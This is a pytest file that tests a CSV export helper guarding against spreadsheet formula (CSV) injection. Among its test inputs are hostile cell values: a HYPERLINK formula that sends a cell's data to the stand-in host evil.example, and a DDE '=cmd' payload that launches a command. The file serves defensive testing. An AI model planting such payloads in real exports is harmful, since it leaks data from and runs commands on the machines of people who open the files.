"""Every CSV export writes its cells through one helper that keeps spreadsheets from reading
a cell as a formula (CSV injection)."""
import csv
import datetime as dt
import io

import pytest

from attribute_authority.csv_export import csv_text, safe_cell


@pytest.mark.parametrize("typed", ['=HYPERLINK("https://evil.example/?"&A2,"klik")', "+1+1",
                                   "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"])
def test_a_cell_that_would_start_a_formula_is_text(typed):
    assert safe_cell(typed) == "'" + typed


@pytest.mark.parametrize(("value", "written"), [
    ("opdracht af", "opdracht af"), ("e-mail: a=b", "e-mail: a=b"), ("", ""), (None, ""),
    (42, "42"), (dt.date(2026, 12, 2), "2026-12-02")])
def test_other_cells_are_written_as_they_are(value, written):
    assert safe_cell(value) == written


def test_csv_text_writes_the_columns_asked_in_order_every_cell_safe():
    text = csv_text(["id", "reason"], [{"id": 1, "reason": "=cmd|' /C calc'!A0", "extra": "x"},
                                       {"id": 2, "reason": None}])
    assert list(csv.reader(io.StringIO(text))) == [
        ["id", "reason"], ["1", "'=cmd|' /C calc'!A0"], ["2", ""]]
